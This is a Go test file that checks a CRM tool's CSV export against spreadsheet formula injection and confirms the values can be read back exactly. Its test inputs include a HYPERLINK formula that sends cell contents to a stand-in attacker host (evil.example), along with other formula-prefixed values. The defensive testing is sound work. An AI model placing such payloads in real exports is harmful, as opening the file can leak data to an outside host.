package boot_test

import (
	"bytes"
	"encoding/csv"
	"regexp"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"satchel/internal/crm"
	"satchel/internal/wire"
)

// An export opens in a spreadsheet as text, whatever strangers wrote into the
// records, and can be read back to the letter.
func TestR32_AnExportHasNoFormulasAndCanBeReadBack(t *testing.T) {
	p := portal(t, 1)
	n := open(t, t.TempDir(), p, "")
	_, err := faceOf[accountFace](t, n).ConnectToken(p.Credentials().Token)
	require.NoError(t, err)
	_, err = n.Sync(t.Context(), false)
	require.NoError(t, err)
	values := []string{
		`=HYPERLINK("https://evil.example/?"&A1)`, "+47 12 34", "-1+1", "@SUM(1)", "-5", " =1+1", "'=1+1", `"quoted", and`, "a;=1+1", "＝1+1",
		"two\nlines", "Ada",
	}
	for _, v := range values {
		_, err := faceOf[recordsFace](t, n).Create(wire.CreateRequest{Type: "contacts", Values: map[string]string{"lastname": v, "city": "Exported"}})
		require.NoError(t, err, v)
	}
	var out bytes.Buffer
	count, err := n.Export(t.Context(), "contacts", "csv", false, &out)
	require.NoError(t, err)
	require.NotRegexp(t, regexp.MustCompile(`(?m)(^|,)[^",\n]`), regexp.MustCompile(`"[^"]*"`).ReplaceAllString(out.String(), `""`), "a cell without quotes")

	rows, err := csv.NewReader(&out).ReadAll()
	require.NoError(t, err)
	require.Len(t, rows, count+1)
	last, city := -1, -1
	for i, name := range rows[0] {
		switch name {
		case "lastname":
			last = i
		case "city":
			city = i
		}
	}
	var back []string
	for _, row := range rows[1:] {
		for _, cell := range row {
			require.Equal(t, crm.SafeCell(crm.ValueOfCell(cell)), cell)
		}
		if row[city] == "Exported" {
			back = append(back, crm.ValueOfCell(row[last]))
		}
	}
	want := make([]string, len(values))
	for i, v := range values {
		want[i] = strings.TrimSpace(v) // as it was saved
	}
	require.ElementsMatch(t, want, back)
}
